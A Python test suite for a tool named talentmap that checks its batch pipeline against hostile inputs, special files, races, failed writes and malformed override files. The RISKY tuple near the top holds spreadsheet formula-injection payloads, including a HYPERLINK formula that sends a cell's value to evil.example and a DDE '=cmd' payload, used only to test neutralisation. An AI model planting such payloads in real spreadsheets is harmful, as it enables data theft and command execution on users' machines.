"""Issue 12: a batch that cannot be turned against its users (hostile files, odd paths, faults).

Each test fails on the code before the fix. The fake pipeline (test_batch_fakes) stands in for the
real one wherever the batch, not the reading, is under test.
"""

from __future__ import annotations

import contextlib
import csv
import errno
import io
import json
import os
import re
import signal
import time
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from test_batch_fakes import fake_process

from talentmap.batch import refresh
from talentmap.cli import main
from talentmap.columns import COLUMNS
from talentmap.csvsafe import neutralise, restore, restore_frame
from talentmap.dataset import text_actions
from talentmap.errors import FileError
from talentmap.outputs import OutputWriteError, write_all
from talentmap.overrides_step import OverridesFileError, apply_override_file, read_override_file
from talentmap.pipeline import FileResult

ROOT = Path(__file__).resolve().parent.parent
FAKE = "test_batch_fakes:fake_processor"
FORMULA = re.compile(r"^(?:[\t\r]|\s*[=+\-@])")
RISKY = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "'quoted already",
)


def run(raw: Path, out: Path, **kwargs):
    kwargs.setdefault("jobs", 2)
    return refresh(raw, out, processor=FAKE, progress_stream=io.StringIO(), **kwargs)


def make(raw: Path, name: str, content: str) -> Path:
    path = raw / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content)
    return path


def calls(path: Path) -> int:
    marker = path.parent / f".{path.name}.calls"
    return len(marker.read_text().splitlines()) if marker.exists() else 0


def read(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False)


@contextlib.contextmanager
def hang_guard(seconds: int = 120) -> Iterator[None]:
    """Fail (instead of hanging the suite for ever) if the block never returns."""

    def give_up(*_: object) -> None:
        raise TimeoutError("hung: the block never returned")

    previous = signal.signal(signal.SIGALRM, give_up)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def risky_results() -> tuple[list[FileResult], list[FileError]]:
    source = "=HYPERLINK(1).docx"
    rows = []
    for index, text in enumerate(RISKY, start=1):
        row = dict.fromkeys(COLUMNS, "")
        row.update(
            plan_id="_hyperlink_1_",
            source_file=source,
            row=str(index),
            ref=f"-{index}",
            objective=text,
            action=f"{text} and then some more words to make the prefix long enough {index}",
            lead="@team",
            rec_id="R5",
            rec_candidates="R5;R4;R3",
            match_score="30",
            match_method="similarity",
            needs_review="true",
            extra="{}",
            match_evidence="+evidence",
        )
        rows.append(row)
    result = FileResult(source, "_hyperlink_1_", "=Evil University", "", tuple(rows), ("docx",))
    return [result], [FileError("@evil.pdf", "extract", "=1+1 not a PDF")]


# -- 1. spreadsheet formula injection ------------------------------------------------------------


@pytest.fixture(scope="module")
def risky_out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("risky")
    write_all(out, *risky_results())
    return out


def test_no_csv_cell_starts_a_formula(risky_out: Path) -> None:
    csvs = sorted(risky_out.glob("*.csv"))
    assert {p.name for p in csvs} >= {"actions.csv", "review.csv", "plans.csv", "coverage.csv", "errors.csv"}
    for path in csvs:
        with path.open(encoding="utf-8", newline="") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        assert not [c for c in cells if FORMULA.match(c)], path.name


def test_csv_rule_is_reversible_and_parquet_keeps_the_exact_text(risky_out: Path) -> None:
    actions = read(risky_out / "actions.csv")
    assert actions.objective.iloc[0].startswith("'=HYPERLINK")
    exact = pd.read_parquet(risky_out / "actions.parquet")
    assert list(exact.objective) == list(RISKY)
    pd.testing.assert_frame_equal(restore_frame(actions), text_actions(exact), check_dtype=False)
    for text in (*RISKY, "plain", "", "'", "''", "'Twas", "x=1"):
        assert restore(neutralise(text)) == text
        assert not FORMULA.match(neutralise(text))
    assert restore("'Twas") == "'Twas"  # a quote typed by hand is text, not the guard


def test_csv_rule_is_documented(risky_out: Path) -> None:
    package = json.loads((risky_out / "datapackage.json").read_text(encoding="utf-8"))
    assert "'" in package["description"] and "formula" in package["description"]
    csvs = [r for r in package["resources"] if r["path"].endswith(".csv")]
    assert csvs and all(r["talentmap:formulaGuard"]["prefix"] == "'" for r in csvs)
    parquet = [r for r in package["resources"] if r["path"].endswith(".parquet")]
    assert all("talentmap:formulaGuard" not in r for r in parquet)  # the exact text, no guard
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme.split("## Security and limits", 1)[1].split("\n## ", 1)[0]
    assert "formula" in section and "`'`" in section


def test_override_copied_from_review_csv_still_matches(risky_out: Path, tmp_path: Path) -> None:
    review = read(risky_out / "review.csv")
    first = review.iloc[0]
    assert first.action_prefix.startswith("'") and first.ref.startswith("'-")
    overrides = tmp_path / "overrides.csv"
    with overrides.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["plan_id", "ref", "action_prefix", "rec_id", "target_id", "note"])
        writer.writerow([first.plan_id, first.ref, first.action_prefix, "R9", "", "checked"])
    results, _ = risky_results()
    updated, report = apply_override_file(results, read_override_file(overrides), overrides)
    assert report.applied == 1 and not report.orphaned
    tagged = [r for r in updated[0].rows if r["rec_id"] == "R9"]
    assert len(tagged) == 1 and tagged[0]["ref"] == restore(first.ref)


def test_xlsx_holds_risky_text_as_text(risky_out: Path) -> None:
    sheet = load_workbook(risky_out / "actions.xlsx")["actions"]
    header = [c.value for c in sheet[1]]
    column = header.index("objective")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == list(RISKY)
    assert all(c.data_type == "s" for c in cells)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


# -- 2. special files --------------------------------------------------------------------------


def test_special_files_are_refused_and_named_never_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import talentmap.inputs

    raw, out = tmp_path / "raw", tmp_path / "out"
    make(raw, "ok.docx", "rows 1")
    (raw / "zero.pdf").symlink_to("/dev/zero")
    os.mkfifo(raw / "pipe.docx")
    (raw / "pipe_link.pdf").symlink_to(raw / "pipe.docx")
    make(raw, "folder.pdf/inner.docx", "rows 2")
    with open(raw / "huge.docx", "wb") as fh:
        fh.truncate(300 * 2**20)  # sparse: costs no disk, would cost a full read to hash
    opened: list[str] = []
    real_open = talentmap.inputs.os.open
    monkeypatch.setattr(
        talentmap.inputs.os, "open", lambda p, *a, **k: opened.append(str(p)) or real_open(p, *a, **k)
    )
    with hang_guard():
        summary = run(raw, out)
    errors = {e.source_file: e.error for e in summary.errors}
    assert errors == {
        "huge.docx": "file too large (300 MB; limit 200 MB)",
        "pipe.docx": "refused: not a regular file (a named pipe (FIFO)); only files are read",
        "pipe_link.pdf": "refused: not a regular file (a named pipe (FIFO)); only files are read",
        "zero.pdf": "refused: not a regular file (a character device); only files are read",
    }
    assert "folder.pdf/ (a folder)" in summary.skipped
    assert set(read(out / "actions.csv").source_file) == {"ok.docx", "folder.pdf/inner.docx"}
    assert not [p for p in opened if Path(p).name in errors], "a refused file was opened"


def test_file_is_hashed_in_the_worker_inside_the_time_limit(tmp_path: Path) -> None:
    """The worker hashes what it parses (a file swapped for a FIFO after the batch looked is refused
    there, within --timeout, instead of blocking)."""
    from talentmap.workers import _process_one

    fifo = tmp_path / "swapped.docx"
    os.mkfifo(fifo)
    with hang_guard(30):
        kind, (stage, message), digest = _process_one(fake_process, fifo, "swapped.docx")
    assert (kind, stage, digest) == ("retry", "extract", None)
    assert "not a regular file" in message


def test_hashing_past_its_deadline_stops(tmp_path: Path) -> None:
    from talentmap.inputs import DeadlinePassed, input_digest

    path = tmp_path / "big.pdf"
    path.write_bytes(b"x" * (3 * 2**20))
    assert len(input_digest(path)) == 64
    with pytest.raises(DeadlinePassed):
        input_digest(path, deadline=time.monotonic() - 1)


# -- 3. the cache holds the digest of the bytes parsed -------------------------------------------


def test_file_changed_between_hash_and_parse_is_cached_under_what_was_parsed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import talentmap.batch

    raw, out = tmp_path / "raw", tmp_path / "out"
    plan = make(raw, "plan.docx", "rows 2")
    real = talentmap.batch.input_digest

    def hash_then_change(path: Path, *args: object) -> str:
        digest = real(path, *args)
        path.write_text("rows 5")  # the file changes after the batch hashed it
        return digest

    monkeypatch.setattr(talentmap.batch, "input_digest", hash_then_change)
    assert run(raw, out).actions == 5  # the worker parsed the new bytes
    monkeypatch.setattr(talentmap.batch, "input_digest", real)
    summary = run(raw, out)  # unchanged since: a cache hit, under the digest of what was parsed
    assert (summary.actions, summary.cached, calls(plan)) == (5, 1, 1)
    plan.write_text("rows 2")  # back to the bytes the first run had hashed
    assert run(raw, out).actions == 2, "rows of other bytes served from the cache"


def test_file_changed_while_parsed_is_an_error_and_not_cached(tmp_path: Path) -> None:
    raw, out = tmp_path / "raw", tmp_path / "out"
    plan = make(raw, "plan.docx", "rewrite rows 3")
    summary = run(raw, out)
    assert summary.errors == (
        FileError(
            "plan.docx",
            "extract",
            "the file changed while it was being read (still being copied or saved?); run refresh again",
        ),
    )
    summary = run(raw, out)  # now "rows 3", read in peace
    assert (summary.actions, summary.failed, calls(plan)) == (3, 0, 2)


# -- 4. the output set is swapped in at once -----------------------------------------------------


def outputs_bytes(out: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(out.iterdir()) if not p.name.startswith(".")}


@pytest.mark.parametrize("failure", [OSError(errno.ENOSPC, "No space left on device"), KeyboardInterrupt()])
def test_a_failed_write_leaves_the_previous_set_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, failure: BaseException
) -> None:
    import talentmap.outputs

    out = tmp_path / "out"
    results, errors = risky_results()
    write_all(out, results[:0], errors)
    before = outputs_bytes(out)

    def fail(*_: object, **__: object) -> None:
        raise failure

    monkeypatch.setattr(talentmap.outputs, "write_xlsx", fail)  # after actions.csv, parquet, ...
    expected = OutputWriteError if isinstance(failure, OSError) else KeyboardInterrupt
    with pytest.raises(expected) as caught:
        write_all(out, results, errors)
    assert outputs_bytes(out) == before
    assert len(list((out / ".sets").iterdir())) == 1
    if expected is OutputWriteError:
        assert str(caught.value) == (
            f"cannot write the outputs in {out}: No space left on device; the previous outputs are unchanged"
        )


def test_full_disk_is_one_line_and_exit_2(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import talentmap.outputs

    raw, out = tmp_path / "raw", tmp_path / "out"
    raw.mkdir()

    def full(*_: object, **__: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(talentmap.outputs, "write_csv", full)
    assert main(["refresh", "--raw", str(raw), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert err.strip().count("\n") == 0 and "No space left on device" in err and "Traceback" not in err


def test_outputs_are_links_into_the_current_set(risky_out: Path) -> None:
    current = (risky_out / ".current").resolve()
    for name in ("actions.csv", "actions.parquet", "report.html"):
        assert (risky_out / name).resolve() == current / name


def test_without_symlinks_each_file_is_still_replaced_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import talentmap.outputs

    def no_symlinks(*_: object) -> None:
        raise OSError(errno.EPERM, "Operation not permitted")

    monkeypatch.setattr(talentmap.outputs.os, "symlink", no_symlinks)
    out = tmp_path / "out"
    write_all(out, *risky_results())
    write_all(out, *risky_results())
    assert not (out / "actions.csv").is_symlink() and len(read(out / "actions.csv")) == len(RISKY)
    assert not list((out / ".sets").iterdir())
    assert README_SECTION_NAMES_SYMLINKS in (ROOT / "README.md").read_text(encoding="utf-8")


README_SECTION_NAMES_SYMLINKS = "a file system without symlinks"


# -- 5. overrides --------------------------------------------------------------------------------

HEADER = "plan_id,ref,action_prefix,rec_id,target_id,note\n"


@pytest.mark.parametrize(
    ("body", "line"),
    [
        ('a,1,,R5,,fine\nb,2,"open quote,R6,,x\nc,3,,R7,,y\nd,4,,R8,,z\n', 3),
        ("a,1,," + "x" * 140_000 + ",,\n", 2),
        ('a,1,,R5,,fine\nb,2,"x"y,R6,,\n', 3),
    ],
)
def test_malformed_overrides_are_refused_with_the_line(tmp_path: Path, body: str, line: int) -> None:
    path = tmp_path / "overrides.csv"
    path.write_text(HEADER + body, encoding="utf-8")
    with pytest.raises(OverridesFileError, match=rf"overrides\.csv:{line}: "):
        read_override_file(path)


def test_malformed_overrides_exit_2_without_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    raw = tmp_path / "raw"
    raw.mkdir()
    path = tmp_path / "overrides.csv"
    path.write_text(HEADER + 'a,1,"open,R5,,\nb,2,,R6,,\n', encoding="utf-8")
    code = main(["refresh", "--raw", str(raw), "--out", str(tmp_path / "out"), "--overrides", str(path)])
    err = capsys.readouterr().err
    assert code == 2 and "overrides.csv:2:" in err and "Traceback" not in err


def test_duplicate_override_keys_are_warned(tmp_path: Path) -> None:
    raw, out = tmp_path / "raw", tmp_path / "out"
    make(raw, "plan.docx", "rows 2")
    overrides = tmp_path / "overrides.csv"
    overrides.write_text(HEADER + "plan,,,R5,,\nother,,,R6,,\nplan,,,R7,,later\n", encoding="utf-8")
    summary = run(raw, out, overrides=overrides)
    assert summary.overrides.duplicates == ("line 4 repeats line 2: plan -> R7",)
    assert "duplicate overrides (the later row wins)" in summary.text()
    assert set(read(out / "actions.csv").rec_id) == {"R7"}


# -- 6. identity ---------------------------------------------------------------------------------


def test_different_files_never_share_a_plan_id(tmp_path: Path) -> None:
    raw, out = tmp_path / "raw", tmp_path / "out"
    names = [
        "2021/plan.docx",
        "2023/plan.docx",
        "same id.docx",
        "same-id.docx",
        "unique.docx",
        "u.pdf",
        "u.docx",
    ]
    for count, name in enumerate(names, start=1):
        make(raw, name, f"rows {count}")
    run(raw, out)
    actions = read(out / "actions.csv")
    ids = actions.groupby("source_file").plan_id.agg(set).to_dict()
    assert all(len(v) == 1 for v in ids.values())
    ids = {k: next(iter(v)) for k, v in ids.items()}
    assert len(set(ids.values())) == len(names)
    assert ids["unique.docx"] == "unique"  # today's id where nothing clashes
    assert re.fullmatch(r"plan_[0-9a-f]{8}", ids["2021/plan.docx"])
    assert re.fullmatch(r"same_id_[0-9a-f]{8}", ids["same-id.docx"])
    assert set(read(out / "plans.csv").plan_id) == set(ids.values())
    coverage = read(out / "coverage.csv")
    assert len(coverage) == len(names)


def test_an_override_re_tags_only_its_own_file(tmp_path: Path) -> None:
    raw, out = tmp_path / "raw", tmp_path / "out"
    make(raw, "2021/plan.docx", "rows 2")
    make(raw, "2023/plan.docx", "rows 3")
    run(raw, out)
    plan_2021 = read(out / "actions.csv").query("source_file == '2021/plan.docx'").plan_id.iloc[0]
    overrides = tmp_path / "overrides.csv"
    overrides.write_text(HEADER + f"{plan_2021},,,R9,,\n", encoding="utf-8")
    summary = run(raw, out, overrides=overrides)
    assert summary.overrides.applied == 2
    tagged = read(out / "actions.csv").query("rec_id == 'R9'")
    assert set(tagged.source_file) == {"2021/plan.docx"}


def test_unique_plan_ids_do_not_depend_on_what_else_is_there() -> None:
    from talentmap.identity import unique_plan_ids

    both = unique_plan_ids(["a/plan.docx", "b/plan.docx"])
    three = unique_plan_ids(["a/plan.docx", "b/plan.docx", "c/plan.docx", "other.pdf"])
    assert both["a/plan.docx"] == three["a/plan.docx"] and three["other.pdf"] == "other"


# -- 9. CLI values -------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "-1", "0", "soon"])
def test_timeout_must_be_a_finite_positive_number(
    tmp_path: Path, value: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exit_:
        main(["refresh", "--raw", str(tmp_path), "--out", str(tmp_path / "out"), "--timeout", value])
    assert exit_.value.code == 2
    assert "--timeout" in capsys.readouterr().err


@pytest.mark.parametrize("command", ["refresh", "report"])
def test_out_naming_a_file_is_a_usage_error(
    tmp_path: Path, command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "file").write_text("x")
    for out in (tmp_path / "file", tmp_path / "file" / "below"):
        args = [command, "--out", str(out)] + (["--raw", str(tmp_path)] if command == "refresh" else [])
        with pytest.raises(SystemExit) as exit_:
            main(args)
        err = capsys.readouterr().err
        assert exit_.value.code == 2 and "is not a folder" in err and "Traceback" not in err
        assert err.strip().splitlines()[-1].startswith("talentmap")


# -- 10. reproducible outputs --------------------------------------------------------------------


def test_every_output_is_byte_identical_across_runs(tmp_path: Path) -> None:
    raw = tmp_path / "raw"
    for i in range(3):
        make(raw, f"p{i}.docx", f"rows {i + 2}")
    run(raw, tmp_path / "cold")
    first = outputs_bytes(tmp_path / "cold")
    time.sleep(2.1)  # let the clock move on (zip entries keep 2-second times): it must not show
    run(raw, tmp_path / "cold")  # warm: everything from the cache
    run(raw, tmp_path / "other", jobs=1)
    assert outputs_bytes(tmp_path / "cold") == first
    assert outputs_bytes(tmp_path / "other") == first
    assert set(first) == {
        "actions.csv",
        "actions.parquet",
        "actions.xlsx",
        "coverage.csv",
        "datapackage.json",
        "errors.csv",
        "plans.csv",
        "recommendations.csv",
        "report.html",
        "review.csv",
    }
    newest = max(p.stat().st_mtime for p in raw.iterdir() if not p.name.startswith("."))
    stamp = time.strftime("%Y-%m-%d %H:%M UTC", time.gmtime(int(newest)))
    assert f"Inputs as of {stamp}" in first["report.html"].decode()


def test_source_date_epoch_dates_the_outputs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    raw = tmp_path / "raw"
    make(raw, "p.docx", "rows 1")
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    run(raw, tmp_path / "out")
    package = json.loads((tmp_path / "out" / "datapackage.json").read_text())
    assert package["created"] == "2023-11-14T22:13:20Z"
    book = load_workbook(tmp_path / "out" / "actions.xlsx")
    assert book.properties.created.isoformat().startswith("2023-11-14T22:13:20")


def test_report_rebuild_keeps_the_inputs_date(tmp_path: Path) -> None:
    from talentmap.outputs import rebuild_report

    raw, out = tmp_path / "raw", tmp_path / "out"
    make(raw, "p.docx", "rows 1")
    run(raw, out)
    before = (out / "report.html").read_bytes()
    rebuild_report(out)
    assert "Inputs as of" in (out / "report.html").read_text()
    assert (out / "report.html").is_symlink() and (out / "actions.csv").is_symlink()
    assert before.count(b"Inputs as of") == 1
